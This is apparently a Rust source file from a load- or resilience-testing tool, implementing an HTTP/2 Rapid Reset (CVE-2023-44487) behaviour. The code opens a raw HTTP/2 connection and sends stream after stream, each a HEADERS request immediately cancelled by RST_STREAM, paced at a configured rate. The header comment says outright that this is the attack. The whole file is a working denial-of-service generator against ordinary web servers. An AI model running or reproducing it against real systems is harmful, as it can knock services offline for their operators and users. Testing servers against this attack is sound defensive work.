//! Behaviours stage: `rapid-reset` (HTTP/2 Rapid Reset, CVE-2023-44487): on an HTTP/2
//! connection of its own frames (`rawh2`), stream after stream opened by a HEADERS frame
//! (a whole `GET` request: END_HEADERS and END_STREAM) and reset in the same write by
//! RST_STREAM(CANCEL), `streams_per_s` a connection. A reset stream no longer counts against
//! the server's concurrency limit, while the server has already begun its work for it: that
//! is the attack. One exchange is one connection carrying `streams_per_connection` streams,
//! closed by the engine after its last (answered), or ended first by the server's GOAWAY or
//! close. Every stream sent counts in `streams_opened`.

use std::time::Duration;

use super::rawh2::{self, Answer};
use super::{Attempt, Behaviour};
use crate::client::Client;
use crate::h2frames::{frame, request_block, CANCEL, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};
use crate::plan::{RapidResetSpec, ValidPlan};
use crate::stats::ErrorKind;

pub(crate) struct RapidReset {
    /// The request's HPACK header block, encoded once.
    block: Vec<u8>,
    streams_per_s: f64,
    per_connection: u64,
    timeout: Duration,
}

impl RapidReset {
    pub fn new(plan: &ValidPlan, spec: &RapidResetSpec) -> RapidReset {
        let target = &plan.target;
        let schedule = Duration::from_secs_f64(
            spec.streams_per_connection as f64 / spec.streams_per_s as f64,
        );
        RapidReset {
            block: request_block(&target.authority, &target.path, target.tls),
            streams_per_s: spec.streams_per_s as f64,
            per_connection: spec.streams_per_connection,
            timeout: schedule + Duration::from_millis(plan.plan.timeout_ms),
        }
    }

    /// Streams `from..to` (0-based on the connection), each HEADERS then RST_STREAM.
    fn streams(&self, from: u64, to: u64) -> Vec<u8> {
        let mut out = Vec::with_capacity((to - from) as usize * (self.block.len() + 31));
        for k in from..to {
            let id = (2 * k + 1) as u32;
            frame(&mut out, HEADERS, END_HEADERS | END_STREAM, id, &self.block);
            frame(&mut out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
        }
        out
    }
}

impl super::Loop for RapidResetSpec {
    fn build<R: super::Runner>(&self, plan: &ValidPlan, _: usize, runner: R) -> R::Out {
        runner.run(RapidReset::new(plan, self))
    }
}

impl Behaviour for RapidReset {
    type State = ();

    fn timeout(&self) -> Option<Duration> {
        Some(self.timeout)
    }

    async fn exchange(&self, c: &mut Client, _: &mut (), _: Attempt) -> Result<(), ErrorKind> {
        rawh2::open(c).await?;
        let streams = |from, to| self.streams(from, to);
        let count = |c: &Client, n| c.ledger().streams_opened(n);
        let total = Some(self.per_connection);
        rawh2::paced(c, self.streams_per_s, total, streams, count, Answer::All).await?;
        c.close();
        Ok(())
    }
}
